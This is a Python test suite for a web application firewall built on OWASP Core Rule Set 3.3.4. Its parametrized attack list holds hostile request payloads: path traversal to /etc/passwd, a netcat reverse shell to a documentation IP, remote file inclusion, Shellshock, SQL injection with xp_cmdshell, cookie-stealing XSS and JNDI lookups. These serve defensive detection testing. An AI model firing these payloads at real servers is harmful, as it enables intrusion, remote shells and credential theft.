"""The CRS rules (Debian's modsecurity-crs 3.3.4) on Hyperscan: what each attack family catches at paranoia
level 1, benign near-misses it leaves alone, exclusions, the anomaly threshold, and linear time."""

from __future__ import annotations

import time
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bench.pathological import CASES
from conftest import CRS_RULES, make_config
from policy.config import RouteConfig
from policy.crs import crs_factor
from policy.crs.checks import Value
from policy.crs.engine import Engine
from policy.crs.request import crs_values
from policy.crs.rules import Parsed
from policy.identity import Identity, Trust
from policy.incoming import Incoming
from policy.risk import History, RiskInput, score
from proxy.crs import load_crs

ROUTE = RouteConfig("/*", "echo")
CALLER = Identity("established", authenticated=True, trust=Trust.TRUSTED)
HISTORY = History(requests=1000, recent=50, recent_failures=0)


@pytest.fixture(scope="module")
def loaded(crs_cache: str) -> tuple[Engine, Parsed]:
    config = make_config({"risk": {"crs": {"enabled": True, "rules_dir": CRS_RULES, "cache_dir": crs_cache}}})
    return load_crs(config.risk.crs, Path("."))


def request(target: str, headers: tuple[tuple[str, str], ...] = (), body: bytes = b"") -> Incoming:
    return Incoming(
        "POST" if body else "GET", target.partition("?")[0], target, (), headers, body, "192.0.2.7"
    )


def matched(engine: Engine, incoming: Incoming, **crs: object) -> list[int]:
    config = make_config({"risk": {"crs": {"enabled": True, **crs}}})
    inp = RiskInput(incoming, CALLER, HISTORY, ROUTE, config.risk.max_scan_bytes)
    return [
        rule.id
        for rule in engine.evaluate(crs_values(incoming, inp.fields, inp.scan_bytes, engine.variables))
    ]


# (family, request target, header) -> a rule of that family must match. Written from each rule's intent.
ATTACKS = [
    ("930", "/f?file=../../../../etc/passwd", None),
    ("930", "/f?file=..%252f..%252fetc%252fshadow", None),
    ("930", "/.htaccess", None),
    ("931", "/p?page=http://203.0.113.9/shell.txt?", None),
    ("931", "/p?inc=ftp://203.0.113.9/x.php%3f", None),
    ("932", "/run?cmd=;cat%20/etc/passwd", None),
    ("932", "/run?cmd=%7Cnc%20-e%20/bin/sh%20203.0.113.9%204444", None),
    ("932", "/run?x=()%20%7B%20:;%20%7D;%20/bin/bash%20-c%20id", None),
    ("932", "/run?cmd=powershell.exe%20-enc%20AAAA", None),
    ("933", "/p?x=%3C%3Fphp%20system($_GET%5B'c'%5D);%20%3F%3E", None),
    ("933", "/p?x=php://filter/convert.base64-encode/resource=index.php", None),
    ("933", "/p?x=O:8:%22stdClass%22:0:%7B%7D", None),
    (
        "934",
        "/n?x=XyQkTkRfRlVOQyQkX2Z1bmN0aW9uKCl7cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWMoImlkIil9KCk=",
        None,
    ),  # 934100 decodes base64 (CRS 3.3: node-serialize)
    ("941", "/s?q=%3Cscript%3Ealert(1)%3C/script%3E", None),
    ("941", "/s?q=%3Cimg%20src=x%20onerror=alert(1)%3E", None),
    ("941", "/s?q=javascript:alert(document.cookie)", None),
    ("942", "/q?id=1'%20union%20select%20password%20from%20users--", None),
    ("942", "/q?id=1%20AND%20SLEEP(5)", None),
    ("942", "/q?id=1';%20exec%20master..xp_cmdshell%20'dir'--", None),
    ("943", "/s?PHPSESSID=abc&x=%3Cmeta%20http-equiv=Set-Cookie%20content=%22sessionid=1%22%3E", None),
    ("944", "/j?x=java.lang.Runtime.getRuntime().exec(%22id%22)", None),
    ("944", "/j?x=new%20java.lang.ProcessBuilder(%22id%22).start()", None),
    ("932", "/j?x=%24%7Bjndi:ldap://203.0.113.9/a%7D", None),  # JNDI: CRS 3.3 sees a shell expression
]


@pytest.mark.parametrize(("family", "target", "header"), ATTACKS)
def test_each_family_catches_its_attacks(
    loaded: tuple[Engine, Parsed], family: str, target: str, header: str | None
) -> None:
    ids = matched(loaded[0], request(target))
    assert any(str(rule_id).startswith(family) for rule_id in ids), f"{target}: {ids}"


# Benign values that share words or characters with the attacks above.
BENIGN = [
    "/search?q=union+station+opening+hours",
    "/search?q=select+a+seat&sort=price",
    "/docs?file=guide.pdf&page=2",
    "/post?title=Cats+%26+dogs%3A+a+love+story",
    "/p?next=/account/settings",
    "/shop/items?color=red&size=M&q=t-shirt",
    "/a?email=jane.doe%40example.com&name=O%27Brien",
    "/a?comment=I+ran+the+script+yesterday+and+it+worked",
    "/a?msg=Meet+me+at+5;+bring+the+cat",
    "/api/v1/orders/12345?expand=items,customer",
    "/a?date=2024-01-02T10:00:00Z&tz=Europe/Paris",
    "/a?java=version+17&lang=en",
]


@pytest.mark.parametrize("target", BENIGN)
def test_benign_near_misses_do_not_reach_the_threshold(loaded: tuple[Engine, Parsed], target: str) -> None:
    engine, _ = loaded
    config = make_config({"risk": {"crs": {"enabled": True}}})
    inp = RiskInput(
        request(target, (("user-agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0"),)),
        CALLER,
        HISTORY,
        ROUTE,
        65536,
    )
    assert crs_factor(engine)(inp, config) is None


def test_the_factor_names_the_rules_and_the_anomaly_score(loaded: tuple[Engine, Parsed]) -> None:
    engine, _ = loaded
    config = make_config({"risk": {"crs": {"enabled": True}}})
    inp = RiskInput(
        request("/q?id=1'%20union%20select%20password%20from%20users--"), CALLER, HISTORY, ROUTE, 65536
    )
    result = score(inp, config, {"crs": crs_factor(engine)})
    hit = next(h for h in result.hits if h.name == "crs")
    assert hit.points == 40 and hit.reason.startswith("crs=942") and "anomaly score" in hit.reason


def test_exclusions_by_id_everywhere_and_per_route(loaded: tuple[Engine, Parsed]) -> None:
    engine, _ = loaded
    attack = "/q?id=1'%20union%20select%20password%20from%20users--"
    ids = matched(engine, request(attack))
    routes = [{"path": "/q", "handler": "echo"}, {"path": "/*", "handler": "echo"}]
    config = make_config(
        {"routes": routes, "risk": {"crs": {"enabled": True, "exclude": [{"ids": ids, "route": "/q"}]}}}
    )
    inp = RiskInput(request(attack), CALLER, HISTORY, config.routes[0], 65536)
    assert crs_factor(engine)(inp, config) is None  # every matched rule excluded on /q...
    inp = RiskInput(request(attack), CALLER, HISTORY, config.routes[1], 65536)
    assert crs_factor(engine)(inp, config) is not None  # ...not on another route
    config = make_config({"risk": {"crs": {"enabled": True, "exclude": [{"ids": ids[:1]}]}}})
    assert ids[0] not in [
        r.id
        for r in engine.evaluate(
            crs_values(inp.incoming, inp.fields, 65536, engine.variables), config.risk.crs.excluded("/x")
        )
    ]


def test_the_threshold_is_crs_anomaly_scoring(loaded: tuple[Engine, Parsed]) -> None:
    engine, _ = loaded
    inp = RiskInput(request("/s?q=%3Cscript%3Ealert(1)%3C/script%3E"), CALLER, HISTORY, ROUTE, 65536)
    assert crs_factor(engine)(inp, make_config({"risk": {"crs": {"enabled": True}}})) is not None
    high = make_config({"risk": {"crs": {"enabled": True, "anomaly_threshold": 1000}}})
    assert crs_factor(engine)(inp, high) is None


def test_targets_are_respected_an_arg_rule_does_not_fire_on_a_header_it_does_not_name(
    loaded: tuple[Engine, Parsed],
) -> None:
    engine, _ = loaded
    attack = "1' union select password from users--"
    assert engine.evaluate([Value("ARGS", "id", attack)])
    assert not engine.evaluate([Value("REQUEST_HEADERS", "x-note", attack)])  # 942190 targets args, cookies
    assert not engine.evaluate([Value("REQUEST_COOKIES", "__utma", attack)])  # !REQUEST_COOKIES:/__utm/


def test_prefiltered_patterns_are_confirmed(loaded: tuple[Engine, Parsed]) -> None:
    engine, _ = loaded
    assert {932100, 932105, 932150} <= engine.compiled.prefiltered
    assert 932150 in [r.id for r in engine.evaluate([Value("ARGS", "x", "\nwget http://x/a")])] or 932100 in [
        r.id for r in engine.evaluate([Value("ARGS", "x", ";wget http://x/a")])
    ]
    assert not engine.evaluate([Value("ARGS", "x", "the wget manual")])


def test_what_is_skipped_is_listed_with_the_reason(loaded: tuple[Engine, Parsed]) -> None:
    _, parsed = loaded
    assert "libinjection" in parsed.skipped[942100] and "libinjection" in parsed.skipped[941100]
    assert len([r for r in loaded[0].rules]) >= 70  # paranoia level 1: 73 rules of 930..944


HOSTILE = [
    "%u",
    "\\u00",
    "&#x",
    "../",
    "/*",
    "'",
    "<",
    "(",
    "$",
    "{",
    ";",
    "|",
    "`",
    "a",
    " ",
    "\xc3",
    "%25",
    "\u20ac",
    "\x00",
]


@settings(
    max_examples=25,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)
@given(parts=st.lists(st.sampled_from(HOSTILE), min_size=1, max_size=10))
def test_64_kib_of_hostile_fragments_evaluates_quickly(
    loaded: tuple[Engine, Parsed], parts: list[str]
) -> None:
    engine, _ = loaded
    text = ("".join(parts) * (65536 // len("".join(parts)) + 1))[:65536]
    started = time.perf_counter()
    engine.evaluate(
        [
            Value("ARGS", "a", text),
            Value("REQUEST_BODY", "", text),
            Value("REQUEST_HEADERS", "x", text[:8000]),
        ]
    )
    assert time.perf_counter() - started < 0.5, f"{text[:40]!r}"


def test_any_text_is_evaluated_as_its_bytes_whatever_it_was_decoded_from(
    loaded: tuple[Engine, Parsed],
) -> None:
    engine, _ = loaded
    for text in ("price 5\u20ac", "\U0001f600 ok", "caf\xe9", "bad \udc80 byte", "\u202e\u0000"):
        assert engine.evaluate([Value("REQUEST_HEADERS", "x-note", text), Value("ARGS", "q", text)]) == []
    attack = "<script>alert('\u20ac')</script>"
    assert engine.evaluate([Value("ARGS", "q", attack)])


@pytest.mark.parametrize("case", list(CASES))
def test_each_known_pathological_input_evaluates_quickly(loaded: tuple[Engine, Parsed], case: str) -> None:
    engine, _ = loaded
    config = make_config({"risk": {"crs": {"enabled": True}}})
    inp = RiskInput(CASES[case](65536), CALLER, HISTORY, ROUTE, 65536)
    started = time.perf_counter()
    score(inp, config, {"crs": crs_factor(engine)})
    took = time.perf_counter() - started
    assert took < 0.5, f"{case}: {took * 1000:.0f} ms"  # the worst measured here: ~60 ms


def test_chains_on_other_request_values_are_evaluated(loaded: tuple[Engine, Parsed]) -> None:
    engine, _ = loaded
    # 943120: a session id set by a parameter, with no Referer at all (session fixation)
    fixation = request("/login?jsessionid=AB12CD")
    assert 943120 in matched(engine, fixation)
    from_site = request("/login?jsessionid=AB12CD", (("referer", "https://shop.example/cart"),))
    assert 943120 not in matched(engine, from_site)
    # 944110: a Java process builder together with a deserialization marker, in any two values
    gadget = request("/j?cmd=java.lang.ProcessBuilder&payload=base64data")
    assert 944110 in matched(engine, gadget)
    assert 944110 not in matched(engine, request("/j?cmd=processbuilder+tutorial"))
